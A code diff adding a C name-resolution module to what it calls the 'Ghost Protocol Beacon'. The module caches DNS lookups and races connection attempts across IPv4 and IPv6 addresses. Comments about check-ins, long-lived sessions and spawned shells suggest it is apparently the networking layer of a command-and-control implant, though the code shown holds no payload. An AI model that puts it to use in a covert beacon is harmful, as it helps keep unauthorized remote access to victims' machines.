@@ -0,0 +1,267 @@
+/*
+ * Ghost Protocol Beacon - Name Resolution Module Implementation
+ * Caches getaddrinfo results and races connects across A/AAAA records
+ */
+
+#include "resolver.h"
+
+#ifndef _WIN32
+
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+
+static resolver_entry_t g_cache[RESOLVER_CACHE_SIZE];
+static int g_ttl = RESOLVER_DEFAULT_TTL;
+static int g_next_slot = 0;
+
+static long monotonic_seconds(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (long)ts.tv_sec;
+}
+
+void resolver_set_ttl(int seconds) {
+    g_ttl = seconds > 0 ? seconds : 0;
+}
+
+static resolver_entry_t* find_entry(const char* hostname, int port) {
+    for (int i = 0; i < RESOLVER_CACHE_SIZE; i++) {
+        if (g_cache[i].addr_count > 0 && g_cache[i].port == port &&
+            strcmp(g_cache[i].hostname, hostname) == 0) {
+            return &g_cache[i];
+        }
+    }
+    return NULL;
+}
+
+static void add_address(resolver_entry_t* entry, const struct addrinfo* ai) {
+    if (entry->addr_count >= RESOLVER_MAX_ADDRS || ai->ai_addrlen > sizeof(struct sockaddr_storage)) {
+        return;
+    }
+    memcpy(&entry->addrs[entry->addr_count], ai->ai_addr, ai->ai_addrlen);
+    entry->addr_lens[entry->addr_count] = ai->ai_addrlen;
+    entry->addr_count++;
+}
+
+resolver_entry_t* resolver_lookup(const char* hostname, int port) {
+    long now = monotonic_seconds();
+    resolver_entry_t* entry = find_entry(hostname, port);
+    if (entry && now < entry->expires) {
+        return entry;
+    }
+    
+    // getaddrinfo already orders results per RFC 6724
+    char service[16];
+    snprintf(service, sizeof(service), "%d", port);
+    
+    struct addrinfo hints;
+    memset(&hints, 0, sizeof(hints));
+    hints.ai_family = AF_UNSPEC;
+    hints.ai_socktype = SOCK_STREAM;
+    hints.ai_flags = AI_ADDRCONFIG;
+    
+    struct addrinfo* results = NULL;
+    if (getaddrinfo(hostname, service, &hints, &results) != 0 || !results) {
+        // Keep serving a stale entry rather than failing the check-in
+        return entry;
+    }
+    
+    if (!entry) {
+        entry = &g_cache[g_next_slot];
+        g_next_slot = (g_next_slot + 1) % RESOLVER_CACHE_SIZE;
+    }
+    memset(entry, 0, sizeof(resolver_entry_t));
+    snprintf(entry->hostname, sizeof(entry->hostname), "%s", hostname);
+    entry->port = port;
+    entry->expires = now + g_ttl;
+    
+    // Interleave address families so one broken family cannot stall the race
+    int first_family = results->ai_family;
+    const struct addrinfo* preferred = results;
+    const struct addrinfo* other = results;
+    
+    while (preferred || other) {
+        while (preferred && preferred->ai_family != first_family) preferred = preferred->ai_next;
+        if (preferred) {
+            add_address(entry, preferred);
+            preferred = preferred->ai_next;
+        }
+        while (other && other->ai_family == first_family) other = other->ai_next;
+        if (other) {
+            add_address(entry, other);
+            other = other->ai_next;
+        }
+    }
+    
+    freeaddrinfo(results);
+    
+    if (entry->addr_count == 0) {
+        return NULL;
+    }
+    return entry;
+}
+
+void resolver_invalidate(const char* hostname, int port) {
+    resolver_entry_t* entry = find_entry(hostname, port);
+    if (entry) {
+        memset(entry, 0, sizeof(resolver_entry_t));
+    }
+}
+
+static int start_connect(const struct sockaddr_storage* addr, socklen_t addr_len, int* connected) {
+    // Close-on-exec from the start: the connection outlives commands, and a shell spawned by
+    // any thread (or a job it leaves behind) would otherwise keep the session open
+#ifdef SOCK_CLOEXEC
+    int sockfd = socket(addr->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+#else
+    int sockfd = socket(addr->ss_family, SOCK_STREAM, 0);
+    if (sockfd >= 0) {
+        fcntl(sockfd, F_SETFD, FD_CLOEXEC);
+    }
+#endif
+    if (sockfd < 0) {
+        return -1;
+    }
+    
+    int flags = fcntl(sockfd, F_GETFL, 0);
+    fcntl(sockfd, F_SETFL, flags | O_NONBLOCK);
+    
+    *connected = 0;
+    if (connect(sockfd, (const struct sockaddr*)addr, addr_len) == 0) {
+        *connected = 1;
+    } else if (errno != EINPROGRESS) {
+        close(sockfd);
+        return -1;
+    }
+    
+    return sockfd;
+}
+
+static void drop_attempt(resolver_race_t* race, int slot) {
+    event_loop_set(race->loop, race->fds[slot], 0, NULL);
+    close(race->fds[slot]);
+    race->pending--;
+    race->fds[slot] = race->fds[race->pending];
+    race->addrs[slot] = race->addrs[race->pending];
+}
+
+// Remember the address that won so the next connect tries it first
+static void promote_address(const resolver_race_t* race, int winner_addr) {
+    resolver_entry_t* entry = find_entry(race->entry.hostname, race->entry.port);
+    if (!entry) {
+        return;
+    }
+    
+    const struct sockaddr_storage* won = &race->entry.addrs[winner_addr];
+    socklen_t won_len = race->entry.addr_lens[winner_addr];
+    for (int i = 1; i < entry->addr_count; i++) {
+        if (entry->addr_lens[i] == won_len && memcmp(&entry->addrs[i], won, won_len) == 0) {
+            struct sockaddr_storage addr = entry->addrs[i];
+            memmove(&entry->addrs[1], &entry->addrs[0], i * sizeof(struct sockaddr_storage));
+            memmove(&entry->addr_lens[1], &entry->addr_lens[0], i * sizeof(socklen_t));
+            entry->addrs[0] = addr;
+            entry->addr_lens[0] = won_len;
+            break;
+        }
+    }
+}
+
+static int finish_race(resolver_race_t* race, int winner, int winner_addr) {
+    while (race->pending > 0) {
+        if (race->fds[0] == winner) {
+            // Keep the winner's descriptor and watch; only the losers are closed
+            race->pending--;
+            race->fds[0] = race->fds[race->pending];
+            race->addrs[0] = race->addrs[race->pending];
+            continue;
+        }
+        drop_attempt(race, 0);
+    }
+    promote_address(race, winner_addr);
+    return winner;
+}
+
+void resolver_race_start(resolver_race_t* race, event_loop_t* loop, const resolver_entry_t* entry, void* data) {
+    memset(race, 0, sizeof(resolver_race_t));
+    race->entry = *entry;
+    race->loop = loop;
+    race->data = data;
+}
+
+// Happy Eyeballs style race: a new attempt starts every RESOLVER_ATTEMPT_DELAY_MS
+// until one address completes its handshake. Each step starts the attempts that are
+// due and collects finished ones without blocking; it returns the connected socket,
+// RESOLVER_RACE_PENDING, or -1 once every address has failed
+int resolver_race_step(resolver_race_t* race) {
+    long now = event_loop_now_ms();
+    
+    while (race->next < race->entry.addr_count && (race->pending == 0 || now >= race->next_attempt_ms)) {
+        int addr = race->next++;
+        int connected;
+        int sockfd = start_connect(&race->entry.addrs[addr], race->entry.addr_lens[addr], &connected);
+        if (sockfd < 0) {
+            continue;
+        }
+        if (connected) {
+            return finish_race(race, sockfd, addr);
+        }
+        if (event_loop_set(race->loop, sockfd, EVENT_WRITE, race->data) != 0) {
+            close(sockfd);
+            continue;
+        }
+        race->fds[race->pending] = sockfd;
+        race->addrs[race->pending] = addr;
+        race->pending++;
+        race->next_attempt_ms = now + RESOLVER_ATTEMPT_DELAY_MS;
+    }
+    
+    if (race->pending > 0) {
+        struct pollfd polled[RESOLVER_MAX_ADDRS];
+        for (int i = 0; i < race->pending; i++) {
+            polled[i].fd = race->fds[i];
+            polled[i].events = POLLOUT;
+            polled[i].revents = 0;
+        }
+        
+        if (poll(polled, race->pending, 0) > 0) {
+            // Walked backwards so dropping an attempt never skips the one moved into its slot
+            for (int i = race->pending - 1; i >= 0; i--) {
+                if (polled[i].revents == 0) {
+                    continue;
+                }
+                
+                int error = 0;
+                socklen_t error_len = sizeof(error);
+                getsockopt(polled[i].fd, SOL_SOCKET, SO_ERROR, &error, &error_len);
+                
+                if (error == 0 && !(polled[i].revents & (POLLERR | POLLHUP))) {
+                    return finish_race(race, polled[i].fd, race->addrs[i]);
+                }
+                
+                // This address refused; drop it from the race
+                drop_attempt(race, i);
+            }
+        }
+    }
+    
+    if (race->pending == 0 && race->next >= race->entry.addr_count) {
+        // Every address failed; drop the entry so the next attempt re-resolves
+        resolver_invalidate(race->entry.hostname, race->entry.port);
+        return -1;
+    }
+    return RESOLVER_RACE_PENDING;
+}
+
+// When the next attempt is due, or -1 once every address has been tried
+long resolver_race_wakeup(const resolver_race_t* race) {
+    return race->next < race->entry.addr_count ? race->next_attempt_ms : -1;
+}
+
+void resolver_race_abort(resolver_race_t* race) {
+    while (race->pending > 0) {
+        drop_attempt(race, 0);
+    }
+}
+
+#endif